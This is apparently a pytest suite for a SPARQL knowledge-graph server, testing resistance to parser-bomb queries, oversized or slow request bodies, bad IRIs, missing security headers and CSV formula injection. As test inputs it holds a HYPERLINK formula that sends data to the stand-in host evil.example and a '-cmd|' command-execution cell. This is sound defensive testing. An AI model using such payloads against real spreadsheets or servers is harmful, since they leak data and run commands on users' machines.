"""Hostile input and HTTP hygiene over a real server (issue 12, failures 3, 4, 6, 7 and 8).

Each test here failed on the code before the issue was worked: parser bombs answered 500 and
killed a worker, a 2 MB body was read and answered, CSV cells were formulas, pages had no
security headers and HEAD gave 405, bad IRIs answered 5xx.
"""

from __future__ import annotations

import io
import socket
import time
import zipfile
from typing import Any

import httpx
import networkx as nx
import pytest

from itskg.graph.analysis.export import to_csv_zip
from itskg.graph.csvsafe import neutralise_csv, safe_cell
from itskg.graph.namespaces import graph_iri
from itskg.graph.store import KnowledgeStore, Layer

pytestmark = pytest.mark.server
ADMIN_TOKEN = "s3cret-token"
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def refused(resp: httpx.Response, status: int, *words: str) -> dict:
    assert resp.status_code == status, (resp.status_code, resp.text[:300])
    body = resp.json()
    assert body["ok"] is False and body["status"] == status
    for w in words:
        assert w in body["error"], body["error"]
    return body


def workers_unchanged(live: Any, before: list[int]) -> None:
    assert live.app.state.kg.pids == before
    assert httpx.get(live.url + "/health").json()["ok"] is True


# ------------------------------------------------------------------- 3: parser bombs
@pytest.mark.parametrize(("query", "status", "setting"), [
    ("SELECT * WHERE " + "{" * 3000 + "?s ?p ?o" + "}" * 3000, 400, "ITSKG_MAX_QUERY_DEPTH"),
    ("SELECT * WHERE { ?s ?p ?o FILTER(" + "(" * 500 + "1" + ")" * 500 + ") }", 400,
     "ITSKG_MAX_QUERY_DEPTH"),
    ("SELECT * WHERE { ?s ?p ?o " + " ".join(f"OPTIONAL {{ ?s ?p ?o{i} }}" for i in range(5000))
     + " }", 413, "ITSKG_MAX_QUERY_LENGTH"),
    ("SELECT * WHERE { " + " UNION ".join("{ ?s ?p ?o }" for _ in range(20000)) + " }", 413,
     "ITSKG_MAX_QUERY_LENGTH"),
    ("SELECT * WHERE { " + " UNION ".join("{?s ?p ?o}" for _ in range(600)) + " }", 400,
     "ITSKG_MAX_QUERY_OPERATORS"),
])
def test_parser_bombs_are_refused_without_losing_a_worker(live: Any, query: str, status: int,
                                                          setting: str) -> None:
    before = live.app.state.kg.pids
    r = httpx.post(live.sparql, content=query.encode(),
                   headers={"Content-Type": "application/sparql-query"}, timeout=30)
    refused(r, status, setting)
    workers_unchanged(live, before)


def test_a_deep_but_legal_query_still_runs(live: Any) -> None:
    q = "SELECT * WHERE " + "{" * 30 + "?s ?p ?o" + "}" * 30 + " LIMIT 1"
    assert httpx.get(live.sparql, params={"query": q}).status_code == 200


# ------------------------------------------------------------------- 4: size limits
def test_body_over_the_limit_is_413_declared_or_streamed(live: Any) -> None:
    big = b"ASK {}\n" + b"# padding\n" * 210_000  # 2.1 MB, over the 1 MiB default
    r = httpx.post(live.sparql, content=big, headers={"Content-Type": "application/sparql-query"})
    refused(r, 413, "ITSKG_MAX_BODY_BYTES")

    def chunks():  # no Content-Length: the limit must hold while the body streams
        for _ in range(40):
            yield b"# padding padding padding\n" * 2000

    r = httpx.post(live.sparql, content=chunks(),
                   headers={"Content-Type": "application/sparql-query"})
    refused(r, 413, "ITSKG_MAX_BODY_BYTES")
    assert httpx.post(live.sparql, content=b"ASK {}",
                      headers={"Content-Type": "application/sparql-query"}).status_code == 200


def test_url_and_header_limits(live: Any) -> None:
    q = "ASK { ?s ?p " + '"' + "x" * 20_000 + '" }'
    refused(httpx.get(live.sparql, params={"query": q}), 414, "ITSKG_MAX_URL_BYTES", "POST")
    r = httpx.get(live.url + "/health", headers={f"X-Pad-{i}": "y" * 4000 for i in range(10)})
    refused(r, 431, "ITSKG_MAX_HEADER_BYTES")


def test_slow_body_is_cut_with_408(live_factory: Any) -> None:
    srv = live_factory(query_workers=1, body_timeout=0.5)
    host, port = srv.url.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=10) as s:
        s.sendall(b"POST /sparql HTTP/1.1\r\nHost: x\r\nContent-Type: application/sparql-query"
                  b"\r\nContent-Length: 100\r\n\r\nASK")
        t0 = time.monotonic()
        data = b""
        while b"\r\n\r\n" not in data or not data.rstrip().endswith(b"}"):
            chunk = s.recv(4096)
            if not chunk:
                break
            data += chunk
    assert data.startswith(b"HTTP/1.1 408"), data[:200]
    assert b"ITSKG_BODY_TIMEOUT" in data
    assert time.monotonic() - t0 < 5


# ------------------------------------------------------------------- 7: HTTP hygiene
@pytest.mark.parametrize("path", ["/", "/questions", "/sparql?query=ASK%20%7B%7D", "/health",
                                  "/api/queries", "/openapi.json", "/static/site.css"])
def test_head_works_wherever_get_does(live: Any, path: str) -> None:
    get = httpx.get(live.url + path)
    head = httpx.head(live.url + path)
    assert get.status_code == 200 and head.status_code == 200, head.text
    assert head.content == b""
    assert head.headers["content-type"] == get.headers["content-type"]
    if "content-length" in get.headers and path != "/":  # the home page counts live data
        assert head.headers["content-length"] == get.headers["content-length"]


def test_pages_carry_security_headers_and_no_cors(live: Any) -> None:
    origin = {"Origin": "https://example.net"}
    for path in ("/", "/editor", "/network", "/map", "/questions", "/docs"):
        r = httpx.get(live.url + path, headers=origin)
        assert r.status_code == 200, path
        csp = r.headers["content-security-policy"]
        assert "script-src 'self'" in csp and "'unsafe-eval'" not in csp, path
        assert "frame-ancestors 'none'" in csp and r.headers["x-frame-options"] == "DENY"
        assert r.headers["x-content-type-options"] == "nosniff"
        assert r.headers["referrer-policy"]
        assert "access-control-allow-origin" not in r.headers, path
    docs = httpx.get(live.url + "/docs").headers["content-security-policy"]
    assert "'sha256-" in docs and "'unsafe-inline'" not in docs.split("script-src")[1].split(";")[0]


def test_api_keeps_cors_and_gets_nosniff(live: Any) -> None:
    origin = {"Origin": "https://example.net"}
    for path in ("/sparql?query=ASK%20%7B%7D", "/api/queries", "/.well-known/void"):
        r = httpx.get(live.url + path, headers=origin)
        assert r.headers["access-control-allow-origin"] == "https://example.net", path
        assert r.headers["x-content-type-options"] == "nosniff"
        assert "content-security-policy" not in r.headers
    err = httpx.get(live.url + "/nothing-here")
    assert err.headers["x-content-type-options"] == "nosniff"


def test_bad_admin_tokens_are_throttled(live_factory: Any) -> None:
    srv = live_factory(query_workers=1, admin_token=ADMIN_TOKEN, admin_attempts=3)
    upd = {"update": f"DROP SILENT GRAPH <{graph_iri('none')}>"}
    for _ in range(3):
        r = httpx.post(srv.sparql, data=upd, headers={"Authorization": "Bearer guess"})
        refused(r, 401)
        assert r.headers["www-authenticate"].startswith("Bearer")
    r = httpx.post(srv.sparql, data=upd, headers={"Authorization": f"Bearer {ADMIN_TOKEN}"})
    refused(r, 429, "ITSKG_ADMIN_ATTEMPTS")
    assert int(r.headers["retry-after"]) > 0


# ------------------------------------------------------------------- 8: bad IRIs
@pytest.mark.parametrize("path", [
    "/id/its/%01", "/vocab/%00", "/resource?iri=http://x/%ED%A0%80", "/resource?iri=http://x/%01",
    "/resource?iri=not%20an%20iri", "/id/its/%ED%A0%80", "/id/its/a%3Eb",
    "/api/queries/resource_provenance?resource=http://x/%01",
    "/api/queries/resource_provenance?resource=http://x/%ED%A0%80",
    "/api/queries/academies_by_region?region=%00",
    "/sparql?query=ASK%20%7B%20%3Chttp://x/%01%3E%20?p%20?o%20%7D",
])
def test_bad_iris_and_values_are_4xx(live: Any, path: str) -> None:
    r = httpx.get(live.url + path, headers={"Accept": "text/html,application/json"})
    assert 400 <= r.status_code < 500, (path, r.status_code, r.text[:300])


# ------------------------------------------------------------------- 6: CSV injection
def test_csv_cells_never_start_a_formula() -> None:
    assert safe_cell(EVIL) == "'" + EVIL
    assert safe_cell("-3.5") == "-3.5" and safe_cell("+39 051") == "'+39 051"
    body = neutralise_csv(b'name,n\r\n"=1+1",-2\r\n@SUM(A1),3\r\n')
    assert body == b"name,n\r\n'=1+1,-2\r\n'@SUM(A1),3\r\n"
    G = nx.Graph()
    G.add_node("c1", label=EVIL, kind="company")
    G.add_node("c2", label="-cmd|' /C calc'!A0", kind="company")
    G.add_edge("c1", "c2", weight=-1)
    with zipfile.ZipFile(io.BytesIO(to_csv_zip(G))) as z:
        nodes = z.read("nodes.csv").decode()
        edges = z.read("edges.csv").decode()
    assert "'=HYPERLINK" in nodes and "'-cmd" in nodes and ",=" not in nodes
    assert edges.strip().endswith("-1")


def test_csv_downloads_are_neutralised(live_factory: Any, tmp_path: Any) -> None:
    srv = live_factory(query_workers=1)
    iri = "http://example.org/evil"
    with KnowledgeStore.open(srv.settings.store, read_only=False) as st:
        st.replace_layers([Layer("evil", EVIL, f'<{iri}> <http://example.org/name> '
                                 f'"@SUM(1+1)*cmd" .'.encode())], rules=[])
    q = f"SELECT ?n WHERE {{ <{iri}> ?p ?n }}"
    sparql_csv = httpx.get(srv.sparql, params={"query": q}, headers={"Accept": "text/csv"})
    assert sparql_csv.text.splitlines()[1] == "'@SUM(1+1)*cmd"
    r = httpx.get(srv.url + "/api/queries/resource_provenance",
                  params={"resource": iri, "format": "csv"})
    assert r.status_code == 200, r.text
    cells = [c for line in r.text.splitlines()[1:] for c in line.split(",")]
    assert any(c.startswith("\"'=HYPERLINK") or c.startswith("'=HYPERLINK") for c in cells)
    assert not any(c.lstrip('"').startswith(("=", "@")) for c in cells), r.text
